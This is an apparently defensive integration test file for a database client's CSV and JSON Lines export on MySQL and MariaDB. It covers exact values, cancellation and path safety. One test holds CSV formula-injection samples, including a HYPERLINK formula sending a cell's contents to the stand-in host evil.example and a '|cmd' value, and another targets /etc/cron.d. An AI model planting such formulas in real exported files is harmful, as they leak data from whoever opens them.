import { mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { FieldPacket } from 'mysql2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportStatus } from '../../../src/shared/api/export';
import type { QueryStatus } from '../../../src/shared/api/query';
import { isBinaryColumn } from '../../../src/shared/query/column-type';
import { uniqueNames } from '../../../src/shared/format/unique-names';
import { connectTo } from '../../servers/connect';
import { testServers, type ServerEndpoint } from '../../servers/provided';
import { readCsv } from '../../unit/export/read-csv';
import { failOnUnhandledErrors } from '../db/no-unhandled-errors';
import { startBackend, type BackendUnderTest } from './backend-harness';
import { openSession } from './session-helpers';

failOnUnhandledErrors();

const ROWS = 200_000;
const DB = 'sl_export_test';

/** Runs a statement through the backend and waits for it to end. */
async function run(b: BackendUnderTest, sessionId: string, sql: string): Promise<QueryStatus> {
  const started = await b.call('query.start', { sessionId, sql });
  if (!started.ok) throw new Error(`${started.error.code}: ${started.error.message}`);
  const deadline = Date.now() + 60_000;
  for (;;) {
    const s = await b.call('query.status', { queryId: started.value.queryId });
    if (!s.ok) throw new Error(s.error.message);
    if (s.value.state !== 'running') return s.value;
    if (Date.now() > deadline) throw new Error(`still running: ${sql}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** Waits for an export to end and returns its final status. */
async function exportEnded(b: BackendUnderTest, exportId: string, timeoutMs = 60_000) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const s = await b.call('export.status', { exportId });
    if (!s.ok) throw new Error(s.error.message);
    if (s.value.state !== 'running') return s.value;
    if (Date.now() > deadline) throw new Error(`export still running after ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

/**
 * The same statement straight from the server on a connection of the test's own, values as the
 * server's bytes (no conversion): the oracle every exported value is checked against.
 */
async function serverRows(
  s: ServerEndpoint,
  sql: string,
): Promise<{ names: string[]; binary: boolean[]; rows: Array<Array<Buffer | null>> }> {
  const conn = await connectTo(s, { charset: 'utf8mb4' });
  try {
    const [rows, fields] = (await conn.query({ sql, rowsAsArray: true, typeCast: false })) as [
      Array<Array<Buffer | null>>,
      FieldPacket[],
    ];
    return {
      names: fields.map((f) => f.name),
      binary: fields.map((f) =>
        isBinaryColumn(Number(f.columnType ?? f.type), Number(f.characterSet)),
      ),
      rows,
    };
  } finally {
    await conn.end();
  }
}

/** A row of every kind of value that is hard to get exactly right. */
const FILL = `
  INSERT INTO ${DB}.mixed
  SELECT n,
    CASE n % 5 WHEN 0 THEN NULL WHEN 1 THEN '' WHEN 2 THEN 'NULL' WHEN 3 THEN CONCAT('v', n) ELSE '0x41' END,
    CASE n % 4
      WHEN 0 THEN CONCAT('ü😀 "quoted", comma ', n)
      WHEN 1 THEN CONCAT('line1\\r\\nline2\\n', n, '\\r')
      WHEN 2 THEN CONCAT('tab\\there \\\\ back', n)
      ELSE REPEAT('漢', n % 50) END,
    CASE n % 3 WHEN 0 THEN NULL WHEN 1 THEN UNHEX(LPAD(HEX(n), 8, '0')) ELSE x'' END,
    18446744073709551615 - n,
    -9223372036854775808 + n,
    CAST(CONCAT(n, '.', LPAD(n, 30, '0')) AS DECIMAL(65,30)),
    n / 7e0,
    JSON_OBJECT('n', n, 's', CONCAT('ü"\\n', n), 'big', 12345678901234567890, 'a', JSON_ARRAY(1.5, NULL, TRUE)),
    TIMESTAMP('2024-02-29 23:59:59.999999') - INTERVAL n SECOND,
    n % 512
  FROM (WITH RECURSIVE s(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM s WHERE n < ${ROWS}) SELECT n FROM s) AS s`;

/** Two columns named `id` on purpose: JSON Lines keys must tell them apart. */
const EXPORTED = `SELECT m.*, m.id FROM ${DB}.mixed AS m ORDER BY m.id`;

describe('full-result export (MySQL 9.7)', () => {
  let b: BackendUnderTest;
  let session: string;
  let dir: string;
  let source: QueryStatus;
  let oracle: Awaited<ReturnType<typeof serverRows>>;
  const servers = testServers();

  beforeAll(async () => {
    // A small in-memory limit: the grid's result stops at 1,000 rows, the export has them all.
    b = await startBackend({ resultLimits: { maxRows: 1000, maxBytes: 64 * 1024 * 1024 } });
    dir = await mkdtemp(path.join(os.tmpdir(), 'sightline-export-'));
    session = await openSession(b, servers.mysql, 'mysql');
    for (const sql of [
      `DROP DATABASE IF EXISTS ${DB}`,
      `CREATE DATABASE ${DB}`,
      `CREATE TABLE ${DB}.mixed (id INT PRIMARY KEY, maybe VARCHAR(40) NULL, txt TEXT,
        bin VARBINARY(16) NULL, big BIGINT UNSIGNED, neg BIGINT, dec65 DECIMAL(65,30), dbl DOUBLE,
        j JSON, dt DATETIME(6), bits BIT(9)) DEFAULT CHARSET utf8mb4`,
      `SET SESSION cte_max_recursion_depth = ${ROWS}`,
      FILL,
    ]) {
      const s = await run(b, session, sql);
      if (s.state !== 'done') throw new Error(`${sql}: ${s.error?.message}`);
    }
    source = await run(b, session, EXPORTED);
    expect(source).toMatchObject({ state: 'done', rowCount: 1000, truncated: 'rows' });
    oracle = await serverRows(servers.mysql, EXPORTED);
    expect(oracle.rows.length).toBe(ROWS);
  });

  afterAll(async () => {
    await run(b, session, `DROP DATABASE IF EXISTS ${DB}`).catch(() => undefined);
    await b?.dispose();
    await rm(dir, { recursive: true, force: true });
  });

  async function exportTo(format: 'csv' | 'jsonl', file: string): Promise<ExportStatus> {
    const started = await b.call('query.export', {
      confirmedFolder: true,
      queryId: source.queryId,
      format,
      path: file,
    });
    if (!started.ok) throw new Error(`${started.error.code}: ${started.error.message}`);
    expect(started.value).toMatchObject({ state: 'running', path: file, format });
    return exportEnded(b, started.value.exportId);
  }

  it(`exports all ${ROWS.toLocaleString('en')} rows to CSV, each value byte-identical to the server's`, async () => {
    const file = path.join(dir, 'mixed.csv');
    const done = await exportTo('csv', file);
    expect(done).toMatchObject({ state: 'done', rows: ROWS, error: null });
    const bytes = await readFile(file);
    expect(done.bytes).toBe(bytes.length);
    // UTF-8 without a byte order mark.
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    const [header, ...records] = readCsv(bytes.toString('utf8'));
    expect(header).toEqual(oracle.names);
    expect(records.length).toBe(ROWS);
    let compared = 0;
    for (let r = 0; r < ROWS; r++) {
      const got = records[r]!;
      const want = oracle.rows[r]!;
      if (got.length !== want.length) throw new Error(`row ${r}: ${got.length} fields`);
      for (let c = 0; c < want.length; c++) {
        const v = want[c] ?? null;
        const field = got[c] ?? null;
        if (v === null) {
          if (field !== null) throw new Error(`row ${r} col ${c}: NULL written as ${field}`);
        } else if (oracle.binary[c]) {
          if (field !== `0x${v.toString('hex').toUpperCase()}`)
            throw new Error(`row ${r} col ${c}: bytes ${v.toString('hex')} written as ${field}`);
        } else if (field === null || !Buffer.from(field, 'utf8').equals(v)) {
          throw new Error(`row ${r} col ${c}: ${JSON.stringify(v.toString())} written as ${field}`);
        }
        compared++;
      }
    }
    expect(compared).toBe(ROWS * oracle.names.length);
    // The tricky ones are really there: '' quoted, NULL empty, CR LF inside a quoted field.
    const text = bytes.toString('utf8');
    expect(text.includes('\r\n1,"","line1\r\nline2\n1\r",')).toBe(true);
    expect(text.includes('\r\n20,,"ü😀 ""quoted"", comma 20",0x,')).toBe(true);
    expect(text.includes(',0x,')).toBe(true);
  });

  it('exports the same rows to JSON Lines, NULL as null, numbers as exact strings, bytes as $hex', async () => {
    const file = path.join(dir, 'mixed.jsonl');
    const done = await exportTo('jsonl', file);
    expect(done).toMatchObject({ state: 'done', rows: ROWS, error: null });
    const text = await readFile(file, 'utf8');
    expect(done.bytes).toBe(Buffer.byteLength(text));
    const lines = text.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.length).toBe(ROWS);
    const keys = uniqueNames(oracle.names);
    expect(keys.at(-1)).toBe('id_2');
    for (let r = 0; r < ROWS; r++) {
      const obj = JSON.parse(lines[r]!) as Record<string, unknown>;
      const got = Object.keys(obj);
      if (got.length !== keys.length || got.some((k, i) => k !== keys[i])) {
        throw new Error(`row ${r}: keys ${got.join(',')}`);
      }
      const want = oracle.rows[r]!;
      for (let c = 0; c < keys.length; c++) {
        const v = want[c] ?? null;
        const value = obj[keys[c]!];
        const ok =
          v === null
            ? value === null
            : oracle.binary[c]
              ? (value as { $hex?: unknown }).$hex === v.toString('hex').toUpperCase() &&
                Object.keys(value as object).length === 1
              : typeof value === 'string' && Buffer.from(value, 'utf8').equals(v);
        if (!ok) {
          throw new Error(
            `row ${r} ${keys[c]}: expected ${v?.toString()}, got ${JSON.stringify(value)}`,
          );
        }
      }
    }
    expect(lines[0]).toContain('"big":"18446744073709551614"');
  });

  it('reports progress as it goes and ends with the file size', async () => {
    const file = path.join(dir, 'progress.csv');
    const from = b.events.length;
    const done = await exportTo('csv', file);
    const updates = b.events
      .slice(from)
      .filter((e) => e.name === 'export.update')
      .map((e) => e.payload as ExportStatus)
      .filter((s) => s.exportId === done.exportId);
    expect(updates[0]).toMatchObject({ state: 'running', rows: 0 });
    expect(updates.at(-1)).toMatchObject({ state: 'done', rows: ROWS, bytes: done.bytes });
    const rows = updates.map((u) => u.rows);
    expect(rows).toEqual([...rows].sort((x, y) => x - y));
    expect((await stat(file)).size).toBe(done.bytes);
  });

  it('runs in the same session: its variables and default database', async () => {
    await run(b, session, `USE ${DB}`);
    await run(b, session, "SET @marker = 'from-the-session'");
    const q = await run(b, session, 'SELECT @marker AS marker, DATABASE() AS db');
    const file = path.join(dir, 'session.csv');
    const started = await b.call('query.export', {
      confirmedFolder: true,
      queryId: q.queryId,
      format: 'csv',
      path: file,
    });
    if (!started.ok) throw new Error(started.error.message);
    expect(await exportEnded(b, started.value.exportId)).toMatchObject({ state: 'done', rows: 1 });
    expect(await readFile(file, 'utf8')).toBe(`marker,db\r\nfrom-the-session,${DB}\r\n`);
  });

  it('counts the cells a spreadsheet may run as formulas, and writes them as they are', async () => {
    const q = await run(
      b,
      session,
      `SELECT * FROM (SELECT '=HYPERLINK("https://evil.example/?"&A1,"x")' AS v
        UNION ALL SELECT '@SUM(1+1)' UNION ALL SELECT '-1+1|cmd' UNION ALL SELECT '-1.5'
        UNION ALL SELECT '+2e3' UNION ALL SELECT 'plain' UNION ALL SELECT '') AS t`,
    );
    const file = path.join(dir, 'formulas.csv');
    const started = await b.call('query.export', {
      confirmedFolder: true,
      queryId: q.queryId,
      format: 'csv',
      path: file,
    });
    if (!started.ok) throw new Error(started.error.message);
    expect(await exportEnded(b, started.value.exportId)).toMatchObject({
      state: 'done',
      rows: 7,
      formulaLikeCells: 3,
    });
    expect(await readFile(file, 'utf8')).toBe(
      'v\r\n"=HYPERLINK(""https://evil.example/?""&A1,""x"")"\r\n@SUM(1+1)\r\n-1+1|cmd\r\n-1.5\r\n+2e3\r\nplain\r\n""\r\n',
    );
  });

  it('cancels mid-way with KILL QUERY, removes the partial file, and the session stays usable', async () => {
    const big = await run(
      b,
      session,
      `SELECT a.*, b.id AS b_id FROM ${DB}.mixed AS a CROSS JOIN (SELECT id FROM ${DB}.mixed LIMIT 200) AS b`,
    );
    const file = path.join(dir, 'cancelled.csv');
    const started = await b.call('query.export', {
      confirmedFolder: true,
      queryId: big.queryId,
      format: 'csv',
      path: file,
    });
    if (!started.ok) throw new Error(started.error.message);
    const exportId = started.value.exportId;
    // Wait until rows are being written.
    const deadline = Date.now() + 20_000;
    for (;;) {
      const s = await b.call('export.status', { exportId });
      if (s.ok && s.value.rows > 10_000) break;
      if (Date.now() > deadline) throw new Error('no rows written within 20 s');
      await new Promise((r) => setTimeout(r, 20));
    }
    // The session is taken meanwhile, for statements and other exports alike.
    expect(await b.call('query.start', { sessionId: session, sql: 'SELECT 1' })).toMatchObject({
      ok: false,
      error: { code: 'SESSION_BUSY', message: expect.stringContaining('export') },
    });
    expect(
      await b.call('query.export', {
        confirmedFolder: true,
        queryId: big.queryId,
        format: 'csv',
        path: `${file}.2`,
      }),
    ).toMatchObject({ ok: false, error: { code: 'SESSION_BUSY' } });
    // While it ran, only the temporary file existed.
    expect((await readdir(dir)).filter((f) => f.startsWith('cancelled.csv'))).toEqual([
      expect.stringMatching(/^cancelled\.csv\.[0-9a-f]{8}\.sightline-partial$/),
    ]);
    expect(await b.call('export.cancel', { exportId })).toEqual({
      ok: true,
      value: { cancelled: true },
    });
    const ended = await exportEnded(b, exportId, 10_000);
    expect(ended.state).toBe('cancelled');
    expect(ended.error).toMatchObject({ code: 'CANCELLED' });
    expect(ended.rows).toBeLessThan(ROWS * 200);
    expect((await readdir(dir)).filter((f) => f.startsWith('cancelled.csv'))).toEqual([]);
    expect(await b.call('export.cancel', { exportId })).toEqual({
      ok: true,
      value: { cancelled: false },
    });
    const after = await run(b, session, 'SELECT 7 AS seven');
    expect(after.state).toBe('done');
    const page = await b.call('query.rows', { queryId: after.queryId, offset: 0, limit: 5 });
    expect(page).toMatchObject({ ok: true, value: { rows: [['7']] } });
  });

  it('refuses a bad path with FILE_ERROR naming it, and never overwrites unless asked', async () => {
    const attempt = (p: string, overwrite?: boolean) =>
      b.call('query.export', {
        confirmedFolder: true,
        queryId: source.queryId,
        format: 'csv',
        path: p,
        ...(overwrite === undefined ? {} : { overwrite }),
      });
    const missing = path.join(dir, 'no-such-folder', 'x.csv');
    expect(await attempt(missing)).toMatchObject({
      ok: false,
      error: { code: 'FILE_ERROR', field: 'path', message: expect.stringContaining(missing) },
    });
    expect(await attempt('relative/x.csv')).toMatchObject({
      ok: false,
      error: { code: 'FILE_ERROR', message: expect.stringContaining('relative/x.csv') },
    });
    expect(await attempt(dir)).toMatchObject({
      ok: false,
      error: { code: 'FILE_ERROR', message: expect.stringContaining(dir) },
    });
    const existing = path.join(dir, 'existing.csv');
    await writeFile(existing, 'keep me');
    expect(await attempt(existing)).toMatchObject({
      ok: false,
      error: {
        code: 'FILE_ERROR',
        field: 'overwrite',
        message: `The file already exists: ${existing}. Confirm to replace it.`,
      },
    });
    expect(await readFile(existing, 'utf8')).toBe('keep me');
    const replaced = await attempt(existing, true);
    if (!replaced.ok) throw new Error(replaced.error.message);
    expect(await exportEnded(b, replaced.value.exportId)).toMatchObject({ state: 'done' });
    expect((await readFile(existing, 'utf8')).startsWith('id,maybe,txt,')).toBe(true);
    // A path refused leaves the session free.
    expect((await run(b, session, 'SELECT 1')).state).toBe('done');
  });

  it('refuses to run again a statement not known to only read, and one without rows', async () => {
    const locking = await run(b, session, `SELECT id FROM ${DB}.mixed LIMIT 3 FOR UPDATE`);
    expect(locking.state).toBe('done');
    const file = path.join(dir, 'locking.csv');
    const refused = await b.call('query.export', {
      confirmedFolder: true,
      queryId: locking.queryId,
      format: 'csv',
      path: file,
    });
    expect(refused).toMatchObject({
      ok: false,
      error: {
        code: 'INVALID_REQUEST',
        message: expect.stringContaining('not known to only read'),
      },
    });
    const noRows = await run(b, session, 'DO 1');
    expect(
      await b.call('query.export', {
        confirmedFolder: true,
        queryId: noRows.queryId,
        format: 'csv',
        path: file,
      }),
    ).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST' } });
    await expect(stat(file)).rejects.toThrow();
    expect((await run(b, session, 'SELECT 1')).state).toBe('done');
  });

  it('refuses while the statement itself still runs, and names unknown results', async () => {
    const started = await b.call('query.start', { sessionId: session, sql: 'SELECT SLEEP(5)' });
    if (!started.ok) throw new Error(started.error.message);
    expect(
      await b.call('query.export', {
        confirmedFolder: true,
        queryId: started.value.queryId,
        format: 'csv',
        path: path.join(dir, 'sleep.csv'),
      }),
    ).toMatchObject({ ok: false, error: { code: 'SESSION_BUSY' } });
    await b.call('query.cancel', { queryId: started.value.queryId });
    expect(
      await b.call('query.export', {
        confirmedFolder: true,
        queryId: 'nope',
        format: 'csv',
        path: path.join(dir, 'n.csv'),
      }),
    ).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
  });

  it('asks before writing into a folder no export used, or over a file, and says nothing of what exists', async () => {
    const fresh = await mkdtemp(path.join(os.tmpdir(), 'sightline-export-ask-'));
    try {
      const file = path.join(fresh, 'asked.csv');
      const missing = path.join(fresh, 'no-such-folder', 'x.csv');
      for (const target of [file, missing, '/etc/cron.d/sightline']) {
        const r = await b.call('query.export', {
          queryId: source.queryId,
          format: 'csv',
          path: target,
        });
        expect(r).toEqual({
          ok: false,
          error: {
            code: 'FILE_ERROR',
            field: 'confirmedFolder',
            message: `No export has been written into ${path.dirname(target)} yet: confirm that this is the folder you mean.`,
          },
        });
      }
      await expect(stat(file)).rejects.toThrow();
      // Confirmed: a missing folder and a file standing where a folder should be read the same.
      await writeFile(path.join(fresh, 'plain'), 'x');
      for (const target of [missing, path.join(fresh, 'plain', 'x.csv')]) {
        const r = await b.call('query.export', {
          queryId: source.queryId,
          format: 'csv',
          path: target,
          confirmedFolder: true,
        });
        expect(r).toMatchObject({
          ok: false,
          error: {
            code: 'FILE_ERROR',
            field: 'path',
            message: `Cannot write into ${path.dirname(target)} (it does not exist, is not a folder, or this user may not write there): ${target}`,
          },
        });
      }
      const first = await b.call('query.export', {
        queryId: source.queryId,
        format: 'csv',
        path: file,
        confirmedFolder: true,
      });
      if (!first.ok) throw new Error(first.error.message);
      expect(await exportEnded(b, first.value.exportId)).toMatchObject({ state: 'done' });
      // The folder is approved now; the file exists: replacing it needs the user's word.
      const again = await b.call('query.export', {
        queryId: source.queryId,
        format: 'csv',
        path: file,
      });
      expect(again).toEqual({
        ok: false,
        error: {
          code: 'FILE_ERROR',
          field: 'overwrite',
          message: `The file already exists: ${file}. Confirm to replace it.`,
        },
      });
      const other = await b.call('query.export', {
        queryId: source.queryId,
        format: 'csv',
        path: path.join(fresh, 'second.csv'),
      });
      if (!other.ok) throw new Error(other.error.message);
      expect(await exportEnded(b, other.value.exportId)).toMatchObject({ state: 'done' });
    } finally {
      await rm(fresh, { recursive: true, force: true });
    }
  });

  it('suggests a new file in the home folder', async () => {
    const r = await b.call('export.defaultPath', { format: 'jsonl' });
    if (!r.ok) throw new Error(r.error.message);
    expect(r.value.homeDir).toBe(os.homedir());
    expect(path.dirname(r.value.path)).toBe(os.homedir());
    expect(path.basename(r.value.path)).toMatch(
      /^sightline-export-\d{4}-\d\d-\d\d-\d{6}(-\d+)?\.jsonl$/,
    );
  });
});

describe('full-result export (MariaDB 10.11)', () => {
  it('classifies with the session flavor and exports', async () => {
    const b = await startBackend();
    const dir = await mkdtemp(path.join(os.tmpdir(), 'sightline-export-'));
    try {
      const session = await openSession(b, testServers().mariadb, 'mariadb');
      const q = await run(b, session, "SELECT 1 AS a, NULL AS b, '' AS c, x'00ff' AS d");
      const file = path.join(dir, 'm.jsonl');
      const started = await b.call('query.export', {
        confirmedFolder: true,
        queryId: q.queryId,
        format: 'jsonl',
        path: file,
      });
      if (!started.ok) throw new Error(started.error.message);
      expect(await exportEnded(b, started.value.exportId)).toMatchObject({
        state: 'done',
        rows: 1,
      });
      expect(await readFile(file, 'utf8')).toBe('{"a":"1","b":null,"c":"","d":{"$hex":"00FF"}}\n');
    } finally {
      await b.dispose();
      await rm(dir, { recursive: true, force: true });
    }
  });
});
